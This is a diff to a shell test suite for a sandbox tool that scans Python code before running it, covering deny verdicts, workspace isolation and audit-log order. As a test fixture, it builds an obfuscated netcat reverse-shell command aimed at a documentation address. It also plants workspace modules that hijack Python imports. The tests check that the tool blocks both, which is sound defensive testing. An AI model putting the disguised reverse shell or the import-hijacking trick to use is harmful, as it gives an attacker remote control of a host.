@@ -74,21 +74,77 @@ once() {
 	every once
 }
 
-found() {
+# Denied for what only the code view shows.
+disguised() {
 	printf 'print("ran", flush=True)\nimport os as o\ngetattr(o, "sys" + "tem")("nc -e /bin/" + "sh 192.0.2.1 4444")\n' |
-		code x.py
-	box "$1" --json x.py
-	exits 126
-	holds 'r["verdict"] == "deny" and r["stdout"] == ""' \
-		'[f["view"] for f in r["rules"] if f["grade"] == "denies"] == ["code"]'
-	# Something is found that only shows: it runs, with that on record.
-	printf 'print("ran")\n' | code y.py
-	box "$1" --json y.py
-	exits 0
-	holds 'r["stdout"] == "ran\n" and r["verdict"]'
+		code bad.py
 }
-@test "what only the code view finds is found before anything runs" {
+
+# denied WAY OPTION...: and nothing of it, nor of anything that came with it, has run.
+denied() {
+	box "$1" "${@:2}" bad.py
+	exits 126
+	out_is ''
+	run ! grep -q 'ran\|before' "$T/err"
+	box "$1" --json "${@:2}" bad.py
+	exits 126
+	holds 'r["verdict"] == "deny" and r["stdout"] == "" and r["stderr"] == ""' \
+		'[f["view"] for f in r["rules"] if f["grade"] == "denies"] == ["code"]'
+}
+
+found() {
+	denied "$1"
+	denied "$1" --pids 1
+	denied "$1" --memory 24M
+	denied "$1" --files 8
+}
+@test "what only the code view finds is found before anything runs, whatever the limits" {
+	disguised
 	every found
+}
+
+# Its modules would be in the way of the interpreter that reads: one that answers for it, and one that
+# Debian's own .pth file imports.
+in_the_way() {
+	denied "$1" --workspace "$T/w:ro"
+	denied "$1" --workspace "$T/w"
+	box "$1" --workspace "$T/w:ro" good.py
+	exits 0
+	out_has '/workspace/encodings/__init__.py'
+}
+@test "nothing of the workspace runs before the decision" {
+	disguised
+	mkdir -p "$T/w/encodings"
+	code w/encodings/__init__.py <<-'END'
+		import posix
+		posix.write(1, b"before\n")
+		for fd in 7, 1:
+		    posix.write(fd, b"status 5\nwhole\ntext 9\nprint(1)\n\nend 0\n\n\xff")
+	END
+	echo 'print("before", flush=True)' | code w/_distutils_hack.py
+	cp "$T/w/_distutils_hack.py" "$T/w/ast.py"
+	cp "$T/w/_distutils_hack.py" "$T/w/usercustomize.py"
+	chmod -R a+rX "$T/w"
+	echo 'import importlib.machinery as m; print(m.PathFinder.find_spec("encodings").origin)' | code good.py
+	every in_the_way
+}
+
+# Nothing but what was planned.
+unplanned() {
+	local who=${1%%:*}
+	domain=$(as "$who" "$CORDON" domain new)
+	plan=$(as "$who" "$CORDON" plan --domain "$domain" --ask read good.py)
+	box "$1" --json --domain "$domain" --workspace "$T/w:ro" good.py
+	holds 'r["stdout"] == "planted\n"'
+	as "$who" timeout 60 "$CORDON" run --json --tier "${1#*:}" --domain "$domain" --plan "$plan" \
+		--workspace "$T/w:ro" good.py >"$T/out" 2>"$T/err" || status=$?
+	holds 'r["origin"] == "plan" and r["stdout"] == "[]\n"'
+}
+@test "a plan imports no module of the workspace" {
+	mkdir "$T/w"
+	printf 'def dumps(x):\n    return "planted"\n' | code w/json.py
+	printf 'import json\nprint(json.dumps([]))\n' | code good.py
+	every unplanned
 }
 
 tight() {
@@ -116,7 +172,7 @@ views() {
 	printf 'print("sun" + "stone")\n' | code x.py
 }
 
-# untouched WAY: a run that begins again is what it was; the next one is exposed to what it printed.
+# untouched WAY: what is only shown changes nothing; the next run is exposed to what this one printed.
 untouched() {
 	local who=${1%%:*} expected
 	domain=$(as "$who" "$CORDON" domain new)
@@ -127,13 +183,13 @@ untouched() {
 			'[f["view"] for f in r["rules"]] == ["code"]'
 	done
 }
-@test "a run that begins again has not read what it never printed" {
+@test "what the view finds and only shows lowers nothing" {
 	views
 	echo 1,2 >"$T/data"
 	every untouched
 }
 
-# planned WAY: each run finds something in what its own interpreter has read, and begins again.
+# planned WAY: each run finds something in what its own interpreter has read.
 planned() {
 	local who=${1%%:*} expected
 	domain=$(as "$who" "$CORDON" domain new)
@@ -145,20 +201,28 @@ planned() {
 			'[f["view"] for f in r["rules"]] == ["code"]'
 	done
 }
-@test "a run that begins again uses one of a plan's runs" {
+@test "each run uses one of a plan's runs" {
 	views
 	every planned
 }
 
-# The log has the run before its first byte is out.
+# The log has the run before its first byte is out: it is looked at while the program waits.
 recorded() {
-	code x.py <<-'END'
-		import sys
-		print("begun", flush=True)
-		sys.stdin.read()
+	local tries
+	rm -f "$T/out"
+	as "${1%%:*}" timeout 60 "$CORDON" run --origin user --tier "${1#*:}" x.py >"$T/out" &
+	local pid=$!
+	for ((tries = 0; tries < 600; tries++)); do
+		! grep -q begun "$T/out" || break
+		sleep 0.05
+	done
+	as "${1%%:*}" "$CORDON" audit export --format jsonl >"$T/log"
+	wait "$pid" || true
+	/usr/bin/python3 - "$T/log" <<-'END'
+		import json, sys
+		kinds = [json.loads(line)["kind"] for line in open(sys.argv[1])]
+		assert kinds[-4:] == ["request", "scan", "verdict", "start"], kinds
 	END
-	box "$1" --stdin x.py x.py
-	exits 0
 	as "${1%%:*}" "$CORDON" audit export --format jsonl >"$T/log"
 	/usr/bin/python3 - "$T/log" <<-'END'
 		import json, sys
@@ -166,6 +230,7 @@ recorded() {
 		assert kinds[-5:] == ["request", "scan", "verdict", "start", "result"], kinds
 	END
 }
-@test "one record of each, in order" {
+@test "one record of each, in order, before the first byte" {
+	printf 'import time\nprint("begun", flush=True)\ntime.sleep(4)\n' | code x.py
 	every recorded
 }
